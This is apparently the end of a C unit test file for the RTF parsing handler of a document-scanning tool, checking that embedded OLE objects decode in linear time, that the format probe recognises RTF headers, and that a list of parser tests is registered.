	assert_non_null(tu_find_finding(s, "limit.exceeded", "limit", "artifacts"));
	assert_int_equal(tu_count_findings(s, "rtf.object"), 5);
	lure_scan_free(s);
	g_string_free(many, TRUE);

	g_free(rtf);
	g_free(hbig);
	g_free(hsmall);
	g_byte_array_free(big, TRUE);
	g_byte_array_free(small, TRUE);
}

/* A large object decodes in linear time; a quadratic tokenizer would not
 * finish within the test's patience. */
static void test_large_object_is_linear(void **state)
{
	(void)state;
	GByteArray *ole = ole1_embedded("Package", 3u * 1024 * 1024);
	char *h = hex(ole);
	char *t = interleave(h, "\r\n", 128);
	char *rtf = one_object("{\\rtf1", t);
	gint64 t0 = g_get_monotonic_time();
	lure_scan *s = scan_str(rtf, NULL);
	gint64 elapsed = g_get_monotonic_time() - t0;
	assert_object(s, "object[0]", ole);
	assert_non_null(tu_find_artifact(s, "ole1:Package"));
	assert_true(elapsed < 20 * G_USEC_PER_SEC);
	lure_scan_free(s);

	/* Many small tokens: control words, groups, escapes. */
	GString *noise = g_string_new("{\\rtf1{\\object{\\*\\objdata ");
	for (int i = 0; i < 200000; i++)
		g_string_append(noise, "0{\\*\\x}1\\par{2}\\'003");
	g_string_append(noise, "}}}");
	t0 = g_get_monotonic_time();
	s = tu_scan(noise->str, noise->len, NULL);
	elapsed = g_get_monotonic_time() - t0;
	assert_non_null(tu_find_artifact(s, "object[0]"));
	assert_true(elapsed < 20 * G_USEC_PER_SEC);
	lure_scan_free(s);
	g_string_free(noise, TRUE);

	g_free(rtf);
	g_free(t);
	g_free(h);
	g_byte_array_free(ole, TRUE);
}

static void test_probe(void **state)
{
	(void)state;
	assert_int_equal(lure_handler_rtf.probe((const uint8_t *)"{\\rt", 4), LURE_BID_CERTAIN);
	assert_int_equal(lure_handler_rtf.probe((const uint8_t *)"{\\rtf1", 6), LURE_BID_CERTAIN);
	assert_int_equal(lure_handler_rtf.probe((const uint8_t *)"{\\r", 3), 0);
	assert_int_equal(lure_handler_rtf.probe((const uint8_t *)" {\\rtf1", 7), 0);
	assert_int_equal(lure_handler_rtf.probe((const uint8_t *)"{\\RTF1", 6), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_probe),
		cmocka_unit_test(test_plain_object),
		cmocka_unit_test(test_whitespace_and_case),
		cmocka_unit_test(test_junk_inside_objdata),
		cmocka_unit_test(test_odd_nibbles),
		cmocka_unit_test(test_bin_runs),
		cmocka_unit_test(test_huge_bin),
		cmocka_unit_test(test_two_objects),
		cmocka_unit_test(test_objupdate_without_autolink),
		cmocka_unit_test(test_ole2link_and_linked),
		cmocka_unit_test(test_class_from_header_not_objclass),
		cmocka_unit_test(test_objects_without_data),
		cmocka_unit_test(test_objdata_variants),
		cmocka_unit_test(test_template),
		cmocka_unit_test(test_fldinst_dde),
		cmocka_unit_test(test_group_depth_limit),
		cmocka_unit_test(test_unbalanced_and_garbage),
		cmocka_unit_test(test_size_limits),
		cmocka_unit_test(test_large_object_is_linear),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
